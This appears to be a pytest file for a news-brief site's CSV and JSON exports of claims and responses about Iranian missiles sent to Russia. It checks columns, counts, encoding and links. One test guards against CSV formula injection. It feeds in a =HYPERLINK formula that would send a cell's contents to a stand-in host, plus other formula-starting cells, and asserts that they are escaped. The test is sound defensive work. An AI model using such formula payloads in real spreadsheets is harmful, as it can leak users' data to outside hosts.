"""The site's responses and claims as CSV and JSON for data desks (theme/datafiles.py).

The CSV files are read back with the csv module, the JSON files with json; both hold the
same rows. A cell a spreadsheet would run as a formula is text in the CSV and exact in the
JSON; every address reaches its page and the element on it.
"""

from __future__ import annotations

import csv
import io
import json
import posixpath
from pathlib import Path
from typing import Any

import pytest
from sitetools import (
    ROOT,
    SEED_SLUG,
    actor,
    brief,
    build,
    claim,
    read_page,
    response,
    write_site,
)

RESPONSE_COLUMNS = ["date", "actor_id", "actor_name", "stance", "polarity", "claim_id",
                    "claim_text", "quote", "note", "brief", "brief_title", "brief_url"]
CLAIM_COLUMNS = ["id", "text", "claimant_ids", "claimant_names", "about_ids", "about_names",
                 "status", "date", "quote", "brief", "brief_title", "brief_url", "url",
                 "responses", "responses_for", "responses_neither", "responses_against",
                 "responses_withdrawn", "status_since", "status_reason"]
TITLE = "US warns of 'consequences' if Iran sends missiles to Russia"
CLAIM_TEXT = "Iran has transferred ballistic missiles to Russia for use in its war against Ukraine."


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build(ROOT, tmp_path_factory.mktemp("data") / "out", cache=False).out


def read_csv(out: Path, name: str) -> list[list[str]]:
    data = (out / "data" / name).read_bytes()
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def read_json(out: Path, name: str) -> list[dict[str, Any]]:
    return json.loads((out / "data" / name).read_bytes())


def test_responses_csv_has_a_row_per_response_by_date_brief_and_order(built: Path) -> None:
    header, *rows = read_csv(built, "responses.csv")
    assert header == RESPONSE_COLUMNS
    assert len(rows) == 12
    assert rows[0] == [
        "2024-09-09", "peter-stano", "Peter Stano", "supports", "for",
        "iran-sent-missiles-to-russia", CLAIM_TEXT,
        "We are aware of the credible information provided by allies on the delivery of "
        "Iranian ballistic missiles to Russia",
        "Calls the allies' information credible but stops short of confirming it: the EU is "
        '"looking further into it" and speaks of the delivery "if confirmed".',
        SEED_SLUG, TITLE, f"briefs/{SEED_SLUG}/#response-1"]
    assert [r[1:5] for r in rows[3:4] + rows[9:]] == [
        ["nasser-kanani", "Nasser Kanani", "denies", "against"],
        ["dmitry-peskov", "Dmitry Peskov", "questions", "neither"],
        ["eu", "European Union", "supports", "for"],
        ["agence-france-presse", "Agence France-Presse", "supports", "for"]]
    assert [r[-1].rpartition("#")[2] for r in rows] == [f"response-{n}" for n in range(1, 13)]
    assert [r[8] for r in rows].count("") == 4  # four responses have no note


def test_claims_csv_has_a_row_per_claim_with_its_counts(built: Path) -> None:
    header, *rows = read_csv(built, "claims.csv")
    assert header == CLAIM_COLUMNS
    assert rows == [
        ["iran-sent-missiles-to-russia", CLAIM_TEXT, "us-media; wall-street-journal",
         "US media; Wall Street Journal", "iran; russia", "Iran; Russia", "disputed",
         "2024-09-09",
         "US media outlets reported last week that Washington believed Iran had transferred "
         "the weapons to Russia for use in Ukraine",
         SEED_SLUG, TITLE, f"briefs/{SEED_SLUG}/#claim-iran-sent-missiles-to-russia",
         "claims/iran-sent-missiles-to-russia/", "10", "1", "8", "1", "0", "", ""],
        ["north-korean-missile-fragments-in-ukraine",
         "Fragments of North Korean missiles have been found on Ukrainian territory.",
         "ukraine", "Ukraine", "north-korea; russia; ukraine", "North Korea; Russia; Ukraine",
         "unverified", "2024-09-09",
         "has found fragments of North Korean missiles on its territory", SEED_SLUG, TITLE,
         f"briefs/{SEED_SLUG}/#claim-north-korean-missile-fragments-in-ukraine",
         "claims/north-korean-missile-fragments-in-ukraine/", "1", "1", "0", "0", "0", "", ""],
        ["ukraine-attacked-with-shahed-drones",
         "Russia attacks Ukraine almost daily with Iranian-designed Shahed drones.",
         "ukraine", "Ukraine", "iran; russia; ukraine", "Iran; Russia; Ukraine", "confirmed",
         "2024-09-09",
         "it has been attacked with Iranian-designed Shahed drones on an almost daily basis "
         "from Russia", SEED_SLUG, TITLE,
         f"briefs/{SEED_SLUG}/#claim-ukraine-attacked-with-shahed-drones",
         "claims/ukraine-attacked-with-shahed-drones/", "1", "1", "0", "0", "0", "", ""]]


@pytest.mark.parametrize("table", ["responses", "claims"])
def test_the_json_holds_the_csv_rows_with_lists_numbers_and_nulls(built: Path,
                                                                  table: str) -> None:
    header, *rows = read_csv(built, f"{table}.csv")
    objects = read_json(built, f"{table}.json")
    assert [list(o) for o in objects] == [header] * len(rows)
    as_cells = [[cell(o[c]) for c in header] for o in objects]
    assert as_cells == rows
    if table == "claims":
        assert objects[0]["claimant_ids"] == ["us-media", "wall-street-journal"]
        assert objects[0]["responses"] == 10
    else:
        assert objects[1]["note"] is None


def cell(value: Any) -> str:
    if value is None:
        return ""
    return "; ".join(value) if isinstance(value, list) else str(value)


def test_rfc_4180_bytes_utf8_without_bom_crlf(built: Path) -> None:
    data = (built / "data" / "responses.csv").read_bytes()
    assert data.startswith(b"date,actor_id,")
    assert data.count(b"\r\n") == 13 and b"\n" not in data.replace(b"\r\n", b"")
    assert b'"Calls the allies\' information credible but stops short of confirming it: ' \
           b'the EU is ""looking further into it""' in data
    assert (built / "data" / "responses.json").read_bytes().startswith(b'[\n{"date": ')


def test_every_address_reaches_its_page_and_element(built: Path) -> None:
    """Site-relative addresses without a base URL: from the site's root, a folder's page."""
    addresses = [r["brief_url"] for r in read_json(built, "responses.json")]
    for row in read_json(built, "claims.json"):
        addresses += [row["brief_url"], row["url"]]
    assert len(addresses) == 18
    for address in addresses:
        path, _, fragment = address.partition("#")
        page = posixpath.join(path, "index.html")
        assert (built / page).is_file(), address
        assert not fragment or read_page(built, page).by_id(fragment) is not None, address


def test_with_a_base_url_addresses_are_absolute(tmp_path: Path) -> None:
    out = build(ROOT, tmp_path / "out", "https://example.org/desk/", cache=False).out
    row = read_json(out, "claims.json")[0]
    assert (row["brief_url"], row["url"]) == (
        f"https://example.org/desk/briefs/{SEED_SLUG}/#claim-iran-sent-missiles-to-russia",
        "https://example.org/desk/claims/iran-sent-missiles-to-russia/")


def test_a_would_be_formula_is_text_in_the_csv_and_exact_in_the_json(tmp_path: Path) -> None:
    """OWASP's advice for CSV files opened in spreadsheets: a cell starting with = + - @, a
    tab or a carriage return gets an apostrophe in front."""
    article = '"-40 degrees by Friday," the EU said. Iran said =SUM(A1) twice.\n'
    site = write_site(tmp_path / "site", {"b": (article, brief(
        "Cold", "2024-01-02",
        claims=[claim("c", "eu", '=HYPERLINK("https://x.test/?"&A1,"click")',
                      "-40 degrees by Friday")],
        responses=[response("c", "iran", "denies", "=SUM(A1)", note="@everyone +1\tno"),
                   response("c", "eu", "supports", note="+1 from the EU")]))},
        [actor("eu", "European Union", "organization"), actor("iran", "Iran")])
    out = build(site).out
    claims = read_csv(out, "claims.csv")[1]
    responses = read_csv(out, "responses.csv")[1:]
    assert (claims[1], claims[8]) == ("'=HYPERLINK(\"https://x.test/?\"&A1,\"click\")",
                                      "'-40 degrees by Friday")
    assert [(r[7], r[8]) for r in responses] == [("'=SUM(A1)", "'@everyone +1\tno"),
                                                 ("", "'+1 from the EU")]
    exact = read_json(out, "claims.json")[0]
    assert (exact["text"], exact["quote"]) == ('=HYPERLINK("https://x.test/?"&A1,"click")',
                                               "-40 degrees by Friday")
    assert [r["note"] for r in read_json(out, "responses.json")] == ["@everyone +1\tno",
                                                                      "+1 from the EU"]


def test_an_empty_site_has_a_header_and_no_row(tmp_path: Path) -> None:
    site = write_site(tmp_path / "site", {}, [actor("eu", "European Union", "organization")])
    out = build(site, ok=False).out
    assert read_csv(out, "responses.csv") == [RESPONSE_COLUMNS]
    assert read_csv(out, "claims.csv") == [CLAIM_COLUMNS]
    assert (read_json(out, "responses.json"), read_json(out, "claims.json")) == ([], [])


def test_the_home_page_links_the_four_files(built: Path) -> None:
    home = read_page(built, "index.html")
    section = home.find("section", class_="data-links")
    assert section is not None
    assert [(a.get("href"), a.text) for a in section.find_all("a")] == [
        ("data/responses.csv", "responses (CSV)"), ("data/responses.json", "responses (JSON)"),
        ("data/claims.csv", "claims (CSV)"), ("data/claims.json", "claims (JSON)")]
